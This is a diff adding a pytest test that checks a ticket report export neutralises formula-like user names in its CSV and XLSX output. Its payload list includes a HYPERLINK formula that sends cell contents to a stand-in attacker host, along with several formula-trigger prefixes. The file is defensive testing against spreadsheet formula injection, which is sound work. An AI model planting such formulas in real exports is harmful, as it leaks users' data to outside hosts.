@@ -6,6 +6,7 @@ import csv
 import io
 import random
 import statistics
+import zipfile
 from collections.abc import Callable
 from datetime import datetime, timedelta
 from typing import Any
@@ -15,7 +16,7 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from layso.models import Ticket, TicketStatus
+from layso.models import Ticket, TicketStatus, User
 from manager.reports import EXPORT_COLUMNS
 
 pytestmark = [
@@ -582,3 +583,39 @@ def test_any_scale_maps_onto_the_official_three_levels(scale: int, expected: lis
 
     assert [official_level(score, scale) for score in range(scale, 0, -1)] == expected
 
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_formula_like_names_are_written_as_text_in_csv_and_xlsx(
+    client: Any, db: Any, tokens: Callable, scripted: dict[str, int], name: str
+) -> None:
+    with db.write() as s:
+        s.execute(sa.update(User).values(full_name=name))
+    headers = {"Authorization": f"Bearer {tokens('manager')}"}
+    url = f"/api/v1/halls/demo/reports/tickets?from={D}&service=TP&format="
+
+    csv_rows = list(csv.reader(io.StringIO(client.get(url + "csv", headers=headers).text[1:])))
+    col = [key for key, *_ in EXPORT_COLUMNS].index("clerk_name")
+    names = {line[col] for line in csv_rows[1:] if line[col]}
+    assert names == {"'" + name}
+
+    data = client.get(url + "xlsx", headers=headers).data
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets), "a live formula"
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [row[col] for row in sheet.iter_rows(min_row=2) if row[col].value]
+    assert cells and all(c.data_type == "s" and c.value.strip() == name.strip() for c in cells)
+    assert all(c.quotePrefix for c in cells)
+    number_col = [key for key, *_ in EXPORT_COLUMNS].index("counter")
+    counters = [row[number_col].value for row in sheet.iter_rows(min_row=2)]
+    assert any(isinstance(v, int) for v in counters), "numbers stay numbers"
